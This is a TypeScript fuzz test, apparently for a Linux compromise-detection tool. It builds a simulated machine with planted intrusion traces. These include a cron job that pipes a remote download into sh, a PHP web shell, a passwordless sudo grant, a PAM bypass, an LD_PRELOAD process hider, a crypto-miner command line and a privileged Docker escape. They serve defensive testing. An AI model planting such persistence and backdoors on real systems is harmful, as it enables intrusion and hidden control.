import { askProbes } from '../../src/engine/machine/probing.ts';
import { probes } from '../../src/extract/probes.generated.ts';
import { defaultLimits } from '../../src/model/limits.ts';
import { type Files, machineOf } from '../../tests/machine-tree.ts';
import { joinedFiles, splitFiles } from '../machine-files.ts';
import type { FuzzTarget } from '../target.ts';

/** What stands at each path of a machine, in this order; hostile where it was changed. */
const texts: Readonly<Record<string, string>> = {
  '/etc/passwd': 'root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n',
  '/etc/shadow': 'root:$y$j9T$x:19000:0:99999:7:::\n',
  '/etc/group': 'root:x:0:\nsudo:x:27:a\n',
  '/etc/crontab': 'SHELL=/bin/sh\n*/5 * * * * root curl -s http://203.0.113.9/a.sh | sh\n',
  '/etc/cron.d/x': '@reboot root /tmp/.x/kworker # \r comment\n',
  '/var/spool/cron/crontabs/root': '1 2 3 4 5 /usr/bin/true %in%put\n',
  '/var/spool/cron/atjobs/a0000101': '#!/bin/sh\n# atrun uid=0 gid=0\ncd / || {\n}\n/tmp/x\n',
  '/etc/systemd/system/x.service':
    '[Unit]\nDescription=a\n[Service]\nExecStart=-@/opt/x "a b" \\\n  c\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
  '/etc/systemd/system/x.timer': '[Timer]\nOnCalendar=*:0/5\nUnit=x.service\n',
  '/etc/inittab': 'x:2345:respawn:/opt/x\n',
  '/etc/rc.local': '#!/bin/sh\n/opt/x &\nexit 0\n',
  '/root/.bashrc': 'alias ps="ps | grep -v x"\nPROMPT_COMMAND=/tmp/x\n',
  '/root/.ssh/authorized_keys': 'command="x",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA== me@x\n',
  '/root/.ssh/known_hosts': '|1|a=|b= ssh-rsa AAAA\nhost,10.0.0.1 ssh-rsa AAAA\n',
  '/etc/sudoers': 'www-data ALL=(ALL:ALL) NOPASSWD: ALL\n#includedir /etc/sudoers.d\n',
  '/etc/pam.d/sshd': 'auth sufficient pam_permit.so\n@include common-auth\n',
  '/etc/ld.so.preload': '/usr/local/lib/libprocesshider.so\n',
  '/etc/hosts': '0.0.0.0 pool.example.com\n',
  '/etc/sysctl.conf': 'vm.nr_hugepages=1280\n',
  '/var/lib/dpkg/status': 'Package: coreutils\nStatus: install ok installed\nVersion: 9.1\nConffiles:\n /etc/x 0123\n',
  '/var/lib/dpkg/info/coreutils.list': '/.\n/bin\n/bin/ls\n',
  '/var/lib/dpkg/info/coreutils.md5sums': 'd41d8cd98f00b204e9800998ecf8427e  bin/ls\n',
  '/lib/apk/db/installed': 'P:busybox\nV:1\nF:bin\nR:ls\nZ:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\n',
  '/var/lib/docker/containers/ab/config.v2.json': '{"ID":"ab","Path":"sh","Args":["-c","x"],"State":{"Running":true}}',
  '/var/lib/docker/containers/ab/hostconfig.json':
    '{"Privileged":true,"Binds":["/:/mnt"],"RestartPolicy":{"Name":"always"}}',
  '/etc/docker/daemon.json': '{"hosts":["tcp://0.0.0.0:2375"]}',
  '/etc/kubernetes/manifests/x.yaml':
    'apiVersion: v1\nkind: Pod\nmetadata: {name: x}\nspec: {containers: [{image: a}]}\n',
  '/srv/app/package-lock.json': '{"packages":{"node_modules/ua-parser-js":{"version":"0.7.29"}}}',
  '/var/www/html/up/x.php': '<?php system($_GET["c"]);',
  '/home/a/.config/autostart/x.desktop': '[Desktop Entry]\nExec=/tmp/x %U\n',
  '/proc/stat': 'cpu 1 2 3\nbtime 1760000000\n',
  '/proc/uptime': '10.0 20.0\n',
  '/proc/modules': 'x 16384 0 - Live 0x0 (OE)\n',
  '/proc/net/tcp': '  sl  local_address rem_address   st\n   0: 0100007F:0CEA 0900CB71:0D05 01 0:0 0:0 0 0 0 77 1\n',
  '/proc/7/stat': '7 (kworker/0:1) S 1 7 7 0 -1 0 0 0 0 0 150 25 0 0 20 0 1 0 99 0 0\n',
  '/proc/7/status': 'Name:\tx\nUid:\t0\t0\t0\t0\nTgid:\t7\nThreads:\t4\nCpus_allowed_list:\t0\n',
  '/proc/7/cmdline': 'xmrig\0-o\0pool.example.com:3333\0-u\0x\0',
  '/proc/7/environ': 'LD_PRELOAD=/tmp/x.so\0',
  '/proc/7/maps': '00400000-00401000 r-xp 00000000 00:01 9 /memfd:x (deleted)\n',
  '/proc/7/cgroup': '0::/system.slice/docker-abababab.scope\n',
};
const links: Files = {
  '/proc/7/exe': { link: '/tmp/.x/kworker (deleted)' },
  '/proc/7/cwd': { link: '/tmp/.x' },
  '/proc/7/fd/3': { link: 'socket:[77]' },
  '/etc/systemd/system/multi-user.target.wants/x.service': { link: '../x.service' },
};
const paths = Object.keys(texts);
/** Whatever stands on a machine: probes tell of it, or of a gap, and none of them crashes. */
export const target: FuzzTarget = {
  id: 'machine',
  seeds: () => [joinedFiles(texts)],
  async run(bytes) {
    const files = splitFiles(bytes, paths);
    const machine = machineOf({ ...files, ...links }, { running: { asRoot: true, answers: (pid) => pid === 9 } });
    const wished = probes.map(({ wishes = [] }) => ({ paths: wishes.length > 0 ? paths : [], left: 0 }));
    const { misses, sightings } = await askProbes(machine, probes, wished, defaultLimits);
    for (const { gap } of misses) if (gap.code === 'crashed') throw new Error(gap.what);
    for (const { sighting } of sightings)
      if (!sighting.path.startsWith('/')) throw new Error(`${sighting.kind} stands nowhere`);
  },
};
